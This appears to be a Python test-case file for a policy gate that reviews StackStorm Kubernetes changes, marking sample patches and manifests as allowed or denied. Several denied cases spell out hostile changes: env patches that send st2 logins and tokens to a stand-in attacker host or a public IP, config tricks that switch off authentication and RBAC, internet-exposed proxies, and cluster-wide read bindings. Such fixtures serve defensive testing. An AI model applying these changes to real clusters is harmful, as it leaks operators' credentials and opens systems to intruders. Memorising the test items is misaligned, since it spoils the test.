from lib import *
from c_config import uc
from c_ha import TIMERS_POD
import copy
def dep(id, env, exp, cls, name, ops, reason, kind='Deployment'):
    case(id, env, exp, cls, reason, kz={'patches': [jp(kind, name, ops)]})
uc('cfg-auth-enable-subst', 'deny', 'st2conf-auth', "[auth]\nenable = ${system.debug}\n",
   "oslo.config substitutes ${group.opt} in option values: [auth] enable takes [system] debug (False) -> st2api/st2stream without authentication; if not substituted the value is no boolean and st2api cannot start")
uc('cfg-rbac-enable-subst', 'deny', 'st2conf-auth', "[rbac]\nenable = $system.debug\nbackend = default\n",
   "[rbac] enable = $system.debug (False by default) through oslo.config substitution: RBAC not enforced, every user is admin-equivalent (st2docs rbac.rst)")
uc('cfg-rbac-backend-subst', 'deny', 'st2conf-auth', "[rbac]\nenable = True\nbackend = ${coordination.url}\n",
   "RBAC backend substituted from another option (etcd://etcd:2379): not 'default', st2api refuses to start with an unknown backend")
uc('cfg-auth-mode-standalone', 'allow', 'st2conf-safe', "[auth]\nenable = True\nmode = standalone\n", "auth on in standalone mode, written explicitly (the image default)")
# st2client / URL env
dep('st2client-auth-url-out', 'prod', 'deny', 'exfiltration', 'st2client',
  [{'op': 'add', 'path': '/spec/template/spec/containers/0/env/-', 'value': {'name': 'ST2_AUTH_URL', 'value': 'https://auth.attacker-collect.net/'}}],
  "operators run `st2 login` in st2client: the st2 CLI posts their username and password to ST2_AUTH_URL, now an outside host (env after envFrom wins)")
dep('st2client-api-url-out', 'prod', 'deny', 'exfiltration', 'st2client',
  [{'op': 'add', 'path': '/spec/template/spec/containers/0/env/-', 'value': {'name': 'ST2_API_URL', 'value': 'http://198.51.100.23:9101/'}}],
  "every st2 CLI call from the operators' shell sends its X-Auth-Token to a public IP over plain http")
dep('st2client-api-url-fqdn', 'prod', 'allow', 'exfil-safe', 'st2client',
  [{'op': 'add', 'path': '/spec/template/spec/containers/0/env/-', 'value': {'name': 'ST2_API_URL', 'value': 'http://st2api.st2-prod.svc.cluster.local:9101/'}}],
  "st2client's API URL as the same Service's cluster FQDN")
# second timers engine in the alias production namespace
tp = copy.deepcopy(TIMERS_POD)
case('timers-in-alias-namespace', 'prod', 'deny', 'singleton',
  "a second st2timersengine Deployment in st2-production (the bundle maps it to production too) with the same st2 config, pointed at st2-prod's MongoDB and RabbitMQ: two timers engines on one bus fire every timer twice (§3)",
  kz={'resources': ['t.yaml']}, files={'t.yaml': [
   {'apiVersion': 'v1', 'kind': 'ConfigMap', 'metadata': {'name': 'st2-config', 'namespace': 'st2-production'}, 'data': {'st2.docker.conf': "[coordination]\nurl = etcd://etcd.st2-prod:2379\n[messaging]\nurl = amqp://admin:{{ pw }}@rabbitmq.st2-prod:5672\n[database]\nhost = mongodb://mongodb-0.mongodb.st2-prod:27017,mongodb-1.mongodb.st2-prod:27017,mongodb-2.mongodb.st2-prod:27017/?authSource=admin&replicaSet=rs0\n", 'st2.user.conf': "[rbac]\nenable = True\nbackend = default\n"}},
   {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'metadata': {'name': 'st2timersengine', 'namespace': 'st2-production'}, 'spec': {'replicas': 1, 'strategy': {'type': 'Recreate'}, 'selector': {'matchLabels': {'app': 'st2timersengine'}}, 'template': {'metadata': {'labels': {'app': 'st2timersengine'}}, 'spec': dict(tp, containers=[dict(tp['containers'][0], resources={'requests': {'cpu': '100m', 'memory': '256Mi'}, 'limits': {'cpu': '1', 'memory': '512Mi', 'ephemeral-storage': '256Mi'}})])}}}]})
# forwarders the gate may not know
ENVOY = """static_resources:
  listeners:
  - name: in
    address: {socket_address: {address: 0.0.0.0, port_value: 8080}}
    filter_chains:
    - filters:
      - name: envoy.filters.network.tcp_proxy
        typed_config:
          "@type": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy
          stat_prefix: st2auth
          cluster: st2auth
  clusters:
  - name: st2auth
    type: STRICT_DNS
    load_assignment:
      cluster_name: st2auth
      endpoints:
      - lb_endpoints:
        - endpoint: {address: {socket_address: {address: st2auth, port_value: 9100}}}
"""
def fwd(id, reason, image, cmd, cfgname, cfg, port, mount):
    objs = [{'apiVersion': 'v1', 'kind': 'ConfigMap', 'metadata': {'name': id, 'namespace': 'st2-prod'}, 'data': {cfgname: cfg}},
            {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'metadata': {'name': id, 'namespace': 'st2-prod', 'labels': {'app': id}}, 'spec': {'replicas': 2, 'selector': {'matchLabels': {'app': id}}, 'template': {'metadata': {'labels': {'app': id}}, 'spec': {
              'containers': [{'name': 'proxy', 'image': image, 'command': cmd, 'ports': [{'containerPort': port}], 'resources': {'requests': {'cpu': '50m', 'memory': '64Mi'}, 'limits': {'cpu': '500m', 'memory': '256Mi', 'ephemeral-storage': '256Mi'}},
                 'securityContext': {'allowPrivilegeEscalation': False, 'runAsNonRoot': True, 'runAsUser': 101, 'capabilities': {'drop': ['ALL']}}, 'volumeMounts': [{'name': 'c', 'mountPath': mount}]}],
              'securityContext': {'seccompProfile': {'type': 'RuntimeDefault'}}, 'volumes': [{'name': 'c', 'configMap': {'name': id}}]}}}},
            {'apiVersion': 'v1', 'kind': 'Service', 'metadata': {'name': id, 'namespace': 'st2-prod'}, 'spec': {'type': 'LoadBalancer', 'selector': {'app': id}, 'ports': [{'port': 80, 'targetPort': port}]}}]
    case(id, 'prod', 'deny', 'exposure-forwarder', reason, kz={'resources': ['f.yaml']}, files={'f.yaml': objs})
fwd('envoy-st2auth-lb', "an Envoy TCP proxy to st2auth:9100 behind an open LoadBalancer on port 80: st2 logins (passwords in HTTP Basic) from the internet in cleartext, no TLS (README admits Envoy clusters are not followed)",
    'envoyproxy/envoy:v1.31.2', ['envoy', '-c', '/etc/envoy/envoy.yaml'], 'envoy.yaml', ENVOY, 8080, '/etc/envoy')
fwd('caddy-st2api-lb', "Caddy reverse_proxy to st2api:9101 behind an open LoadBalancer on plain HTTP: the st2 API and its tokens on the internet in cleartext",
    'caddy:2.8.4', ['caddy', 'run', '--config', '/etc/caddy/Caddyfile', '--adapter', 'caddyfile'], 'Caddyfile', ":8080 {\n  reverse_proxy st2api:9101\n}\n", 8080, '/etc/caddy')
fwd('caddy-rabbit-mgmt-lb', "Caddy reverse_proxy to RabbitMQ's management API (rabbitmq:15672) behind an open LoadBalancer: the bus's admin API on the internet",
    'caddy:2.8.4', ['caddy', 'run', '--config', '/etc/caddy/Caddyfile', '--adapter', 'caddyfile'], 'Caddyfile', ":8080 {\n  reverse_proxy rabbitmq:15672\n}\n", 8080, '/etc/caddy')
# cluster-wide view to everyone
case('crb-view-authenticated', 'prod', 'deny', 'rbac-cluster',
  "ClusterRoleBinding of the built-in view ClusterRole to system:authenticated: every account in the shared cluster reads every namespace's ConfigMaps, pods (env literals), Ingresses and CRs of all tenants",
  kz={'resources': ['crb.yaml']}, files={'crb.yaml': {'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'ClusterRoleBinding', 'metadata': {'name': 'st2-everyone-view'},
    'roleRef': {'apiGroup': 'rbac.authorization.k8s.io', 'kind': 'ClusterRole', 'name': 'view'}, 'subjects': [{'kind': 'Group', 'apiGroup': 'rbac.authorization.k8s.io', 'name': 'system:authenticated'}]}})
case('rbac-team-config-writer', 'prod', 'allow', 'rbac-safe',
  "the named st2 operators' group may patch st2's two ConfigMaps (ordinary delegation to the owning team)",
  kz={'resources': ['r.yaml']}, files={'r.yaml': [
   {'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'Role', 'metadata': {'name': 'st2-config-editor', 'namespace': 'st2-prod'}, 'rules': [{'apiGroups': [''], 'resources': ['configmaps'], 'resourceNames': ['st2-config', 'st2-pack-configs'], 'verbs': ['get', 'patch']}]},
   {'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'RoleBinding', 'metadata': {'name': 'st2-config-editor', 'namespace': 'st2-prod'}, 'roleRef': {'apiGroup': 'rbac.authorization.k8s.io', 'kind': 'Role', 'name': 'st2-config-editor'}, 'subjects': [{'kind': 'Group', 'apiGroup': 'rbac.authorization.k8s.io', 'name': 'oidc:st2-operators'}]}]})
case('restart-cron-own-sa', 'prod', 'allow', 'rbac-safe',
  "a nightly `kubectl rollout restart deployment/st2api` CronJob with its own ServiceAccount allowed only get/patch on that Deployment (README: rollout restart passes)",
  kz={'resources': ['r.yaml']}, files={'r.yaml': [
   {'apiVersion': 'v1', 'kind': 'ServiceAccount', 'metadata': {'name': 'st2api-restarter', 'namespace': 'st2-prod'}},
   {'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'Role', 'metadata': {'name': 'st2api-restarter', 'namespace': 'st2-prod'}, 'rules': [{'apiGroups': ['apps'], 'resources': ['deployments'], 'resourceNames': ['st2api'], 'verbs': ['get', 'patch']}]},
   {'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'RoleBinding', 'metadata': {'name': 'st2api-restarter', 'namespace': 'st2-prod'}, 'roleRef': {'apiGroup': 'rbac.authorization.k8s.io', 'kind': 'Role', 'name': 'st2api-restarter'}, 'subjects': [{'kind': 'ServiceAccount', 'name': 'st2api-restarter', 'namespace': 'st2-prod'}]},
   {'apiVersion': 'batch/v1', 'kind': 'CronJob', 'metadata': {'name': 'st2api-restart', 'namespace': 'st2-prod'}, 'spec': {'schedule': '30 4 * * 0', 'concurrencyPolicy': 'Forbid', 'jobTemplate': {'spec': {'template': {'spec': {
     'serviceAccountName': 'st2api-restarter', 'restartPolicy': 'OnFailure', 'securityContext': {'runAsNonRoot': True, 'runAsUser': 1001, 'seccompProfile': {'type': 'RuntimeDefault'}},
     'containers': [{'name': 'k', 'image': 'bitnami/kubectl:1.32.4', 'command': ['kubectl', 'rollout', 'restart', 'deployment/st2api'], 'resources': {'requests': {'cpu': '10m', 'memory': '32Mi'}, 'limits': {'cpu': '100m', 'memory': '128Mi', 'ephemeral-storage': '64Mi'}},
       'securityContext': {'allowPrivilegeEscalation': False, 'capabilities': {'drop': ['ALL']}}}]}}}}}}]})
# namespace-level scheduling annotations
case('ns-podnodeselector-cp', 'prod', 'deny', 'cluster',
  "PodNodeSelector/PodTolerationRestriction annotations on st2-prod: every new st2 pod gets a control-plane node selector and a toleration of all taints (where the admission plugins run): st2 and its action runners (arbitrary code) scheduled onto control-plane nodes",
  kz={'patches': [jp('Namespace', 'st2-prod', [{'op': 'add', 'path': '/metadata/annotations', 'value': {'scheduler.alpha.kubernetes.io/node-selector': 'node-role.kubernetes.io/control-plane=', 'scheduler.alpha.kubernetes.io/defaultTolerations': '[{"operator": "Exists"}]'}}])]})
case('ns-psa-enforce-restricted-warn', 'prod', 'allow', 'cluster-safe',
  "Namespace annotation describing the owner: metadata only", kz={'patches': [jp('Namespace', 'st2-prod', [{'op': 'add', 'path': '/metadata/annotations', 'value': {'example.com/owner': 'platform-team'}}])]})
# safe netpol default deny + allows
case('netpol-default-deny-with-allows', 'prod', 'allow', 'exposure-safe',
  "default-deny ingress for st2-prod plus: everything inside the namespace, and the ingress-nginx namespace to st2web:443 (every st2 flow kept)",
  kz={'resources': ['np.yaml']}, files={'np.yaml': [
   {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'default-deny-ingress', 'namespace': 'st2-prod'}, 'spec': {'podSelector': {}, 'policyTypes': ['Ingress']}},
   {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'allow-same-namespace', 'namespace': 'st2-prod'}, 'spec': {'podSelector': {}, 'policyTypes': ['Ingress'], 'ingress': [{'from': [{'podSelector': {}}]}]}},
   {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'allow-ingress-controller', 'namespace': 'st2-prod'}, 'spec': {'podSelector': {'matchLabels': {'app': 'st2web'}}, 'policyTypes': ['Ingress'], 'ingress': [{'from': [{'namespaceSelector': {'matchLabels': {'kubernetes.io/metadata.name': 'ingress-nginx'}}}], 'ports': [{'port': 443, 'protocol': 'TCP'}]}]}}]})
case('netpol-egress-no-dns', 'prod', 'deny', 'outage',
  "egress default-deny for every st2-prod pod with only in-namespace egress: DNS to kube-dns (kube-system) is cut, no pod resolves mongodb-0.mongodb or rabbitmq -> st2 down (README ST2-OPS-034 class)",
  kz={'resources': ['np.yaml']}, files={'np.yaml': {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'egress-lockdown', 'namespace': 'st2-prod'}, 'spec': {'podSelector': {}, 'policyTypes': ['Egress'], 'egress': [{'to': [{'podSelector': {}}]}]}}})
case('cert-st2web-le', 'prod', 'allow', 'exposure-safe', "a cert-manager Certificate for st2.example.com from the listed letsencrypt-production ClusterIssuer",
  kz={'resources': ['c.yaml']}, files={'c.yaml': {'apiVersion': 'cert-manager.io/v1', 'kind': 'Certificate', 'metadata': {'name': 'st2web-extra', 'namespace': 'st2-prod'}, 'spec': {'secretName': 'st2web-extra-tls', 'dnsNames': ['st2.example.com'], 'issuerRef': {'kind': 'ClusterIssuer', 'name': 'letsencrypt-production'}}}})
case('lb-st2web-gke-internal', 'prod', 'allow', 'exposure-safe', "an internal GKE load balancer for st2web (networking.gke.io/load-balancer-type: Internal) for the VPN",
  kz={'resources': ['s.yaml']}, files={'s.yaml': {'apiVersion': 'v1', 'kind': 'Service', 'metadata': {'name': 'st2web-internal', 'namespace': 'st2-prod', 'annotations': {'networking.gke.io/load-balancer-type': 'Internal'}}, 'spec': {'type': 'LoadBalancer', 'selector': {'app': 'st2web', 'release': 'st2'}, 'ports': [{'port': 443, 'targetPort': 443}]}}})
case('lb-st2web-cgnat', 'prod', 'allow', 'exposure-safe', "st2web LoadBalancer restricted to 100.64.0.0/10 (the tailnet's CGNAT range, private per the README)",
  kz={'resources': ['s.yaml']}, files={'s.yaml': {'apiVersion': 'v1', 'kind': 'Service', 'metadata': {'name': 'st2web-tailnet', 'namespace': 'st2-prod'}, 'spec': {'type': 'LoadBalancer', 'loadBalancerSourceRanges': ['100.64.0.0/10'], 'selector': {'app': 'st2web', 'release': 'st2'}, 'ports': [{'port': 443, 'targetPort': 443}]}}})
case('timers-hpa-pinned-1', 'prod', 'allow', 'singleton-safe', "an HPA on st2timersengine held at exactly 1 (min=max=1): README accepts it, never two",
  kz={'resources': ['h.yaml']}, files={'h.yaml': {'apiVersion': 'autoscaling/v2', 'kind': 'HorizontalPodAutoscaler', 'metadata': {'name': 'st2timersengine', 'namespace': 'st2-prod'}, 'spec': {'scaleTargetRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2timersengine'}, 'minReplicas': 1, 'maxReplicas': 1, 'metrics': [{'type': 'Resource', 'resource': {'name': 'cpu', 'target': {'type': 'Utilization', 'averageUtilization': 90}}}]}}})
case('velero-schedule-default', 'prod', 'allow', 'exfil-safe', "a Velero Schedule of st2-prod to the cluster's default location (README: allowed)",
  kz={'resources': ['v.yaml']}, files={'v.yaml': {'apiVersion': 'velero.io/v1', 'kind': 'Schedule', 'metadata': {'name': 'st2-prod-daily', 'namespace': 'velero'}, 'spec': {'schedule': '0 1 * * *', 'template': {'includedNamespaces': ['st2-prod'], 'ttl': '720h0m0s'}}}})
